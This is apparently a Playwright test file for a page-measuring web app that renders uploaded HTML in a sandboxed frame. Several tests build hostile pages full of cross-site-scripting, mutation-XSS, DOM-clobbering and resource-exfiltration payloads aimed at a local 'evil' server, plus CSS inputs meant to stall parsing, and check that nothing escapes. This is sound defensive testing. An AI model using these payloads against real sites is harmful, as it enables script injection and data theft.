// Measured places: what the sealed frame says of a page is what a plain load says, and nothing gets out of it.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { resolve } from 'node:path';
import { zipSync, strToU8 } from 'fflate';
import { axeFindings, expect, saved, test } from './application.ts';
import { measuredFigures, plainWidths, serve, worstError } from '../bench/src/measuring.ts';

/** Once the set's name is known. */
const TITLE = 'Measure a page · Kiln diary, autumn firing · Dusky Otter';
const PAGES = ['index.html', 'about.html', 'kiln-diary.html', 'shop.html', 'visiting.html'];

test('the demo’s five pages: every width within a pixel of a plain load, and every rule too', async ({
  page,
  browser,
  server,
  setId,
}) => {
  const site = await serve(resolve('demo/site'));
  try {
    await page.goto(`${server.address}/sets/${setId}/measure`);
    await page.getByRole('button', { name: 'Try Gullmoor’s site' }).click();
    for (const path of PAGES) {
      const figures = await measuredFigures(page, path);
      const windows = [...new Set(figures.map(({ window }) => window))];
      expect(windows.length, path).toBeGreaterThanOrEqual(40);
      expect(new Set(figures.map(({ number }) => number)).size, path).toBeGreaterThanOrEqual(4);
      const plain = await plainWidths(browser, `${site.address}${path}`, windows);
      expect(worstError(figures, plain), path).toBeLessThanOrEqual(1);
      // As many pictures are shown in a plain load as were measured.
      for (const [window, widths] of plain)
        expect(figures.filter((figure) => figure.window === window).length).toBe(
          widths.filter((width) => width >= 0.5).length,
        );
      for (const said of await page.getByText(/^The rule fits within /).allTextContents())
        expect(Number(/([\d.]+) px/.exec(said)![1]), said).toBeLessThanOrEqual(1);
    }
  } finally {
    site.close();
  }
});

test('proposals become places, with their names, and undo takes them away', async ({
  page,
  server,
  setId,
}) => {
  await page.goto(`${server.address}/sets/${setId}/measure`);
  await expect(page.getByRole('heading', { level: 1, name: 'Measure a page' })).toBeVisible();
  expect(await axeFindings(page), 'before a page is chosen').toEqual([]);
  await page.getByRole('button', { name: 'Try Gullmoor’s site' }).click();
  await measuredFigures(page, 'shop.html');
  const shelf = page.locator('[data-proposal]').filter({ hasText: '4 across with 16 px between' });
  await expect(shelf).toContainText('6 pictures');
  await shelf.getByRole('textbox').fill('Shop shelf');
  const leave = page
    .locator('[data-proposal]')
    .filter({ hasNotText: '4 across' })
    .getByRole('button', { name: 'Leave' });
  for (const button of await leave.all()) await button.click();
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: 800 });
    expect(await axeFindings(page), `${width}`).toEqual([]);
  }
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.getByRole('button', { name: 'Take this place' }).click();
  const row = page.locator('[data-place="shop-shelf"]');
  await expect(row).toContainText('Shop shelf');
  await row.click();
  await expect(page.getByText(/shop\.html, in \d+ windows on .* agrees within/)).toBeVisible();
  await saved(page);
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(row).toHaveCount(0);
});

const DEEP = '<div>'.repeat(400) + '</div>'.repeat(400);

test('a hostile page reaches neither the application nor the network', async ({ page, server, setId }) => {
  const hits: string[] = [];
  const outside = createServer((request, response) => {
    hits.push(request.url!);
    response.writeHead(200, { 'access-control-allow-origin': '*' });
    response.end('parent.document.title = "taken"');
  });
  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done));
  const evil = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const hostile = `<!doctype html><html manifest="${evil}/manifest"><head><base href="${evil}/base/"><title>x</title>
<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="${evil}/a.css"><link rel="preload" as="image" href="${evil}/preload"><link rel="dns-prefetch" href="${evil}">
<link rel="prefetch" href="${evil}/prefetch"><link rel="preconnect" href="${evil}"><link rel="icon" href="${evil}/icon"><link rel="modulepreload" href="${evil}/m.js">
<style>@import "${evil}/b.css"; @import url(${evil}/c.css) screen; body{background:url(${evil}/bg);cursor:url(${evil}/cur),auto}
@font-face{font-family:x;src:url(${evil}/font)} p{font-family:x;list-style:url("${evil}/list");content:u\\72l(${evil}/escaped)} p::before{content:url('${evil}/before')}
@namespace url(${evil}/ns); :root{--x:url(${evil}/var)} p{background:var(--x)} p::after{content:image-set("${evil}/set" 1x)} </style>
<script>parent.document.title='taken';top.location='${evil}/top';localStorage.x=1;fetch('${evil}/fetch')</script>
<script src="${evil}/s.js"></script><script type="module">import '${evil}/mod.js'</script></head>
<body onload="fetch('${evil}/onload')" background="${evil}/old"><p>text</p>
<img src="${evil}/img.jpg" srcset="${evil}/set1.jpg 1x, ${evil}/set2.jpg 2x" onerror="parent.document.title='taken'"><img src="x" onerror="top.document.title='taken'">
<picture><source srcset="${evil}/source.jpg"><img src="pictures/a.png" alt=""></picture>
<input type="image" src="${evil}/input.png" formaction="${evil}/f"><form action="${evil}/form" method="post"><button autofocus onfocus="this.form.submit()">x</button></form>
<iframe src="${evil}/iframe"></iframe><iframe srcdoc="<script>top.document.title='taken'</script>"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
<video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio src="${evil}/audio" autoplay></audio><a href="javascript:top.document.title='taken'" ping="${evil}/ping">x</a>
<svg><script>parent.document.title='taken'</script><image href="${evil}/svgimage"/><use href="${evil}/use.svg#x"/><foreignObject><img src="${evil}/foreign"></foreignObject><a xlink:href="javascript:1"><animate attributeName="href" values="${evil}"/></a></svg>
<math><annotation-xml encoding="text/html"><img src=x onerror="parent.document.title='taken'"></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=parent.document.title='taken'>"></noscript><template><img src="${evil}/template"></template>
<style><!--</style><img src="${evil}/comment" onerror="parent.document.title='taken'">--></style><table background="${evil}/table"><td background="${evil}/td">${DEEP}</table>
<p style="background:url(${evil}/inline)" >x</p></body></html>`;
  const zip = zipSync({ 'index.html': strToU8(hostile), 'pictures/a.png': new Uint8Array([1, 2, 3]) });
  const foreign: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol !== 'data:' && protocol !== 'blob:' && origin !== server.address)
      foreign.push(request.url());
  });
  page.on('dialog', (dialog) => {
    foreign.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  try {
    await page.goto(`${server.address}/sets/${setId}/measure`);
    await expect(page).toHaveTitle(TITLE);
    await page
      .getByLabel('A page or a ZIP of a site')
      .setInputFiles({ name: 'site.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) });
    await expect(page.getByText(/^Looked at in \d+ windows/)).toBeVisible();
    await expect(
      page.frameLocator('iframe[title^="The page in a window of 1280"]').locator('#dusky-marks b').first(),
    ).toBeAttached();
    expect(await page.title()).toBe(TITLE);
    expect(await page.evaluate(() => localStorage.getItem('x'))).toBeNull();
    expect(foreign).toEqual([]);
    expect(hits).toEqual([]);
    // The frame is an origin of its own: it has no cookies, no storage and no parent that could be read.
    const sealed = page.frames().find((frame) => new URL(frame.url()).pathname === '/measuring')!;
    expect(await sealed.evaluate(() => window.origin)).toBe('null');
    expect(
      await sealed.evaluate(() => {
        try {
          return window.parent.document.title;
        } catch (error) {
          return (error as Error).name;
        }
      }),
    ).toBe('SecurityError');
    expect(
      await sealed.evaluate(
        () => document.querySelectorAll('script, base, meta[http-equiv], [onload], [onerror]').length,
      ),
    ).toBe(0);
  } finally {
    outside.close();
  }
});

test('what reads otherwise when it is read again is cleaned again, and names are no way in', async ({
  page,
  server,
  setId,
}) => {
  const hits: string[] = [];
  const outside = createServer((request, response) => {
    hits.push(request.url!);
    response.end();
  });
  outside.on('connection', () => hits.push('a connection'));
  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done));
  const evil = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const inner = `<img src=x onerror="top.document.title='taken'"><link rel=preconnect href=${evil}><link rel=prefetch href=${evil}/p><script>top.document.title='taken'</script>`;
  const hostile = `<!doctype html><title>x</title><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" style="display:block;width:200px;height:100px" alt="A bowl">
<form><math><mtext></form><form><mglyph><style></math>${inner}</style></mglyph></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inner.replaceAll('"', '&quot;').replaceAll('<', '&lt;')}">
<svg></p><style><g title="</style>${inner}"></svg>
<form id="f"><div></form><form id="inner"><input name=attributes><input name=getAttributeNames><input id=removeAttribute>${inner}</form></div>
<select><noembed></select><noembed>${inner}</noembed></noembed></select><xmp><p title="</xmp>${inner}"></xmp>
<img name=getElementById src=a.png><img name=querySelectorAll src=a.png><img name=documentElement src=a.png><img name=images src=a.png>
<img name=open src=a.png><img name=write src=a.png><img name=fonts src=a.png><object id=createElement></object>
<svg><rect fill="u\\72l(${evil}/fill)" mask="url(${evil}/mask#x)"/></svg><p style="background:image-set('${evil}/i' 1x)">x</p>`;
  try {
    await page.goto(`${server.address}/sets/${setId}/measure`);
    await expect(page).toHaveTitle(TITLE);
    await page.getByLabel('A page or a ZIP of a site').setInputFiles({
      name: 'nested.html',
      mimeType: 'text/html',
      buffer: Buffer.from(hostile),
    });
    await expect(page.getByText(/^Looked at in \d+ windows/)).toBeVisible();
    await expect(page.locator('[data-proposal]').filter({ hasText: '200px' })).toBeVisible();
    const sealed = page.frames().filter((frame) => new URL(frame.url()).pathname === '/measuring');
    for (const frame of sealed)
      expect(
        await frame.evaluate(
          () => document.querySelectorAll('script, link, base, meta[http-equiv], [onerror]').length,
        ),
      ).toBe(0);
    expect(await page.title()).toBe(TITLE);
    expect(hits).toEqual([]);
  } finally {
    outside.close();
  }
});

test('stylesheets that are made to take long are read all the same, or can be stopped', async ({
  page,
  server,
  setId,
}) => {
  await page.goto(`${server.address}/sets/${setId}/measure`);
  const css = [
    '1'.repeat(400_000),
    '@import ('.repeat(60_000),
    '@media '.repeat(60_000),
    `@media (min-width:${'9'.repeat(200_000)}`,
    '/*'.repeat(200_000),
    'url('.repeat(100_000),
    'a{'.repeat(100_000),
  ];
  const sheets = css.map((_, n) => `<link rel="stylesheet" href="${n}.css">`).join('');
  const html = `<!doctype html><title>x</title>${sheets}<img width="210" height="90" alt="A jug" src="data:,">`;
  const files = Object.fromEntries(css.map((text, n) => [`${n}.css`, strToU8(text)]));
  const zip = Buffer.from(zipSync({ 'index.html': strToU8(html), ...files }));
  await page
    .getByLabel('A page or a ZIP of a site')
    .setInputFiles({ name: 'site.zip', mimeType: 'application/zip', buffer: zip });
  await expect(page.getByText(/^Looked at in \d+ windows/)).toBeVisible();
  // A page of its own that never comes to an end within any patience: the window answers, and Stop stops it.
  const endless = Object.fromEntries(
    Array.from({ length: 60 }, (_, n) => [`${n}.css`, strToU8('a{b:c}'.repeat(150_000))]),
  );
  const links = Object.keys(endless).map((name) => `<link rel="stylesheet" href="${name}">`);
  const long = zipSync({ 'index.html': strToU8(`<!doctype html>${links.join('')}<img>`), ...endless });
  await page.getByRole('button', { name: 'Another site' }).click();
  await page
    .getByLabel('A page or a ZIP of a site')
    .setInputFiles({ name: 'long.zip', mimeType: 'application/zip', buffer: Buffer.from(long) });
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(page.getByRole('button', { name: 'Stop' })).toBeHidden();
});

test('what can’t be measured is said, and another page can be chosen', async ({ page, server, setId }) => {
  await page.goto(`${server.address}/sets/${setId}/measure`);
  const input = page.getByLabel('A page or a ZIP of a site');
  const give = (name: string, buffer: Buffer) => input.setInputFiles({ name, mimeType: '', buffer });
  for (const [name, buffer, sentence] of [
    ['site.zip', Buffer.from('no zip'), 'damaged, or no ZIP file'],
    ['notes.txt', Buffer.from('x'), 'There is no page among these files'],
    ['huge.html', Buffer.alloc(9_000_000, 'x'), 'larger than 8 MB'],
    ['deep.html', Buffer.from(`<!doctype html>${'<i></i>'.repeat(70_000)}`), 'more than 60000 elements'],
    ['many.html', Buffer.from(`<!doctype html>${'<img>'.repeat(2000)}`), 'more than 1500 pictures'],
    [
      'styles.html',
      Buffer.from(`<style>${'a{'.repeat(30_000)}</style><img>`),
      'brackets stand inside each other',
    ],
    [
      'vars.html',
      Buffer.from(`<p style="width:${'var(--x,'.repeat(30_000)}"><img>`),
      'brackets stand inside each',
    ],
  ] as const) {
    await give(name, buffer);
    await expect(page.getByRole('alert'), name).toContainText(sentence);
    const another = page.getByRole('button', { name: 'Another site' });
    if (await another.isVisible()) await another.click();
  }
  await give('plain.html', Buffer.from('<p>No picture here'));
  await expect(page.getByText('There is no picture on this page.')).toBeVisible();
  await page.getByRole('button', { name: 'Another site' }).click();
  // A page alone, without its styles and pictures, in quirks mode.
  await give(
    'alone.html',
    Buffer.from(
      '<img src="gone.jpg" width="30%" alt="Gone"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="200" height="100">',
    ),
  );
  await expect(page.getByText('1 picture is not among the files')).toBeVisible();
  await expect(page.locator('[data-proposal]').filter({ hasText: '200px' })).toBeVisible();
});

test('a stylesheet that is not there is said first, and nothing of such a page is taken unasked', async ({
  page,
  server,
  setId,
}) => {
  await page.goto(`${server.address}/sets/${setId}/measure`);
  const site = zipSync({
    'index.html': strToU8(`<!doctype html><meta name="viewport" content="width=device-width">
      <link rel="stylesheet" href="here.css"><link rel="stylesheet" href="css/gone.css">
      <link rel="stylesheet" href="https://cdn.example/all.css"><link rel="stylesheet" media="print" href="print.css">
      <img src="a.png" width="300" height="200" alt=""><iframe src="map.html"></iframe>
      <noscript><img src="b.png" width="200" height="100" alt=""></noscript>`),
    'here.css': strToU8('header { background: #fff url(sky.png) } img { display: block }'),
  });
  await page
    .getByLabel('A page or a ZIP of a site')
    .setInputFiles({ name: 'site.zip', mimeType: '', buffer: Buffer.from(site) });
  const said = page.getByRole('region', { name: 'What was measured' });
  await expect(said).toContainText('Measured without 2 of its stylesheets: the widths are not to be trusted');
  await expect(said).toContainText('css/gone.css, https://cdn.example/all.css');
  await expect(said).not.toContainText('print.css');
  await expect(said).toContainText('A frame stands on it');
  await expect(said).toContainText('A background is laid behind boxes');
  await expect(said).toContainText('Pictures within noscript are measured');
  const proposals = page.locator('[data-proposal]');
  await expect(proposals.first()).toContainText('Without a stylesheet of the page: not to be trusted');
  await expect(page.getByText(/^Take 0, leave/)).toBeVisible();
});
